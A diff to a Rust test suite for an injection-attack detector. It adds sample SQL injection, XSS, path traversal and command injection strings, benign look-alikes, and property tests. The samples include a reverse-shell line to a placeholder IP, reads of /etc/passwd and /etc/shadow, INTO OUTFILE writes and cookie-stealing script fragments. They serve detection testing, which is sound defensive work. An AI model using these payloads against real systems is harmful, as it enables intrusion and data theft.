@@ -20,6 +20,31 @@ fn sqli_examples() {
         "1 AND 1=1",
         "-1 UNION/**/SELECT password FROM users",
         "1%27%20or%20%271%27%3D%271",
+        "1 * 1 --",
+        "declare @s varchar(8000)",
+        // quote-balancing expressions after a string break
+        "aa'like-'aa",
+        "1' -1 or '1",
+        "x' in (0)#",
+        // parenthesised logic / lone operand cut off by a comment
+        " ( @a OR 'b' )  --",
+        "1--",
+        // number glued to a keyword, UNION after a value, `||` after a number
+        "1e0UNION SELECT 2",
+        "-1#x\nunion",
+        "1 || 1 = 1",
+        // statements before `(`, parenthesised SELECT with a clause, INTO OUTFILE
+        "select (id),(2),3 from bar where",
+        "(select id from users limit 1,1)",
+        "1 into outfile 'x'",
+        // an opened SQL function call, a call appended to a list, MongoDB operators, catalogues
+        "concat (",
+        "select(user(\n",
+        ", FIND_IN_SET('22', Category )",
+        "{\"$where\": \"sleep(100)\"}",
+        "u_id[$ne]=1",
+        "msdb",
+        "root@example.com'/* comment */;",
     ] {
         assert!(has(s, AttackClass::Sqli), "{s}");
     }
@@ -34,6 +59,18 @@ fn xss_examples() {
         "<a href=\"javascript:alert(1)\">",
         "%3Csvg%20onload%3Dalert(1)%3E",
         "<div style=\"width: expression(alert(1))\">",
+        "self[\"alert\"](1)",
+        "document /*x*/ . cookie",
+        "[].sort.call`${alert}1337`",
+        "(![]+[])[+!+[]]",
+        "+ADw-script+AD4-alert(1)",
+        "1234<f o r m",
+        "\"onzoom=",
+        "'formaction=",
+        "x:url(javascript",
+        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x/\"/></a>",
+        "foo!ENTITY % bar SYSTEM",
+        "<!--#exec cmd=\"ls\"-->",
     ] {
         assert!(has(s, AttackClass::Xss), "{s}");
     }
@@ -47,6 +84,10 @@ fn path_examples() {
         "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
         "file:///etc/shadow",
         "..\\..\\boot.ini",
+        "../1.7z",
+        "/path/to/.docker/secrets",
+        "cat /etc/subuid",
+        "0x5c0x2e./",
     ] {
         assert!(has(s, AttackClass::PathTraversal), "{s}");
     }
@@ -62,6 +103,15 @@ fn cmdi_examples() {
         "a${IFS}b",
         "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
         "& for %a in (x) do cmd",
+        "time sh -c whoami",
+        "c89 -wrapper sh,-c,id .",
+        "$SHELL -c \"echo hi\"",
+        "~-1",
+        ";ansible-playbook site.yml",
+        ";lastlog -u root",
+        ";base64 --decode /etc/passwd",
+        "chef-client -t 1.1.1.1",
+        "ansible all -m ping",
     ] {
         assert!(has(s, AttackClass::Cmdi), "{s}");
     }
@@ -77,9 +127,34 @@ fn benign_examples() {
         "3 BY 5 RECIPE CARDS",
         "rock & roll",
         "a < b and c > d",
-        "../images/logo.png",
+        "./images/logo.png",
+        "john.smith@example.com",
+        "/.well-known/security.txt",
         "JavaScript: The Good Parts",
         "100% cotton",
+        "please confirm (yes or no)",
+        "!@#$%^&*()-",
+        "!@#$%",
+        "the alert level is high",
+        "O'Brien - O'Neil",
+        "necklace length 16\" or 18\"",
+        "SMALL \"&\" SIGN",
+        "the european union",
+        "5685587||ORDER=||SECTION_ID=||PAGE=2",
+        "(see page 1) --",
+        "wait for me (",
+        "{\"$schema\": \"x\"}",
+        "price: $ne",
+        "~user/home",
+        "she -c",
+        "<a for m>",
+        "\"online\": true",
+        "0x2e is a dot",
+        "data:image/png;base64,iVBORw0KGgo=",
+        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2",
+        "\"NOT FOR SALE\"",
+        "... Some content ...",
+        "myfunction(){ echo hello }",
     ] {
         assert!(classes(s).is_empty(), "{s}: {:?}", detect(s));
     }
@@ -120,6 +195,36 @@ mod props {
         fn never_panics_on_attack_alphabet(s in "[%0-9a-fA-Fu<>'\";|&$(){}\\[\\]/\\\\.+#=` \\-*!@]{0,120}") {
             let f = detect(&s);
             prop_assert!(f.iter().all(|f| (0.0..=1.0).contains(&f.confidence)));
+        }
+
+        #[test]
+        fn prefilter_gates_never_change_the_result(
+            s in "(union|select|from|or|and|1|=|cat|if|not|exist|whoami|document|cookie|etc|passwd|sys|information_schema|_|\\.|-|/|<|:|@|'|\\(|;| ){0,12}"
+        ) {
+            let n = normalise(&s);
+            prop_assert_eq!(analyse(&n, &s, true), analyse(&n, &s, false), "{}", s);
+        }
+
+        #[test]
+        fn prefilter_gates_never_change_the_result_on_any_text(s in "\\PC{0,80}") {
+            let n = normalise(&s);
+            prop_assert_eq!(analyse(&n, &s, true), analyse(&n, &s, false));
+        }
+
+        #[test]
+        fn find_seq_matches_naive_search(hay in "[ab.]{0,40}", pat in "[ab.]{1,4}", from in 0usize..45) {
+            let (h, p) = (hay.as_bytes(), pat.as_bytes());
+            let naive = h.get(from..).and_then(|r| r.windows(p.len()).position(|w| w == p)).map(|i| i + from);
+            prop_assert_eq!(sql_lex::find_seq(h, from, p), naive);
+        }
+
+        #[test]
+        fn findings_are_bounded(s in "\\PC{0,300}") {
+            let f = detect(&s);
+            prop_assert!(f.len() <= AttackClass::ALL.len());
+            let mut classes: Vec<_> = f.iter().map(|x| x.class).collect();
+            classes.dedup();
+            prop_assert_eq!(classes.len(), f.len());
         }
 
         #[test]
